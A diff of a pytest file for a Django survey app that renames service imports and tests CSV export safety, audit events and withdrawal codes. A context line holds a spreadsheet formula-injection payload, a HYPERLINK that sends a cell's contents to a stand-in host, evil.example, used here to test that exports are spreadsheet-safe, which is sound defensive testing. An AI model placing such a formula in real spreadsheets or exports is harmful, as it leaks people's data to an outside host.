@@ -11,7 +11,7 @@ import pytest
 from django.contrib.auth.models import User
 from django.core.files.uploadedfile import SimpleUploadedFile
 
-from afstand.services import adapter
+from afstand.services import studies, submissions
 from afstand.web.models import AuditEvent, Counter, Membership, Response, Study
 from tests.conftest import run_cli
 from tests.helpers import MINI_FORM
@@ -23,7 +23,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
 
 @pytest.fixture
 def demo(db):
-    return adapter.load_demo()
+    return studies.load_demo()
 
 
 def post(client, body, instrument="clienten"):
@@ -75,10 +75,10 @@ def test_a_declined_instance_is_counted_once(client, demo):
 # item 4: spreadsheet-safe CSV ----------------------------------------------------------------
 
 def test_web_csv_is_spreadsheet_safe_and_the_data_file_is_canonical_and_analyze_reads_both(client, demo, tmp_path):
-    version = adapter.active_version(demo.slug, "clienten")
+    version = studies.active_version(demo.slug, "clienten")
     tricky = [FORMULA, "+31 6 1234", "-geen-", "@home", "=1+1", "'al een apostrof"]
     for i, text in enumerate(tricky):
-        adapter.submit(version, uuid.uuid4(), {"consent": "ja", "c_age": 30 + i, "c_gender": "man", "c_open_tips": text})
+        submissions.submit(version, uuid.uuid4(), {"consent": "ja", "c_age": 30 + i, "c_gender": "man", "c_open_tips": text})
     researcher(client, demo)
     safe = client.get(f"/onderzoek/{demo.slug}/export/clienten.csv")
     data = client.get(f"/onderzoek/{demo.slug}/export/clienten.data.csv")
@@ -151,12 +151,12 @@ def test_createuser_staff(tmp_path):
 
 def test_audit_events_have_random_keys_and_respondent_events_no_time(client, demo):
     researcher(client, demo)
-    version = adapter.active_version(demo.slug, "clienten")
-    codes = [adapter.submit(version, uuid.uuid4(), {"consent": "ja"}).body["withdrawal_code"] for _ in range(6)]
+    version = studies.active_version(demo.slug, "clienten")
+    codes = [submissions.submit(version, uuid.uuid4(), {"consent": "ja"}).body["withdrawal_code"] for _ in range(6)]
     for code in codes:
         client.get(f"/onderzoek/{demo.slug}/")
         client.get(f"/onderzoek/{demo.slug}/export/clienten.csv")
-        assert adapter.withdraw(code)
+        assert submissions.withdraw(code)
     events = list(AuditEvent.objects.values_list("id", "action", "at"))
     withdrawals = [e for e in events if e[1] == "withdrawal"]
     assert len(withdrawals) == 6 and all(at is None for _, _, at in withdrawals)
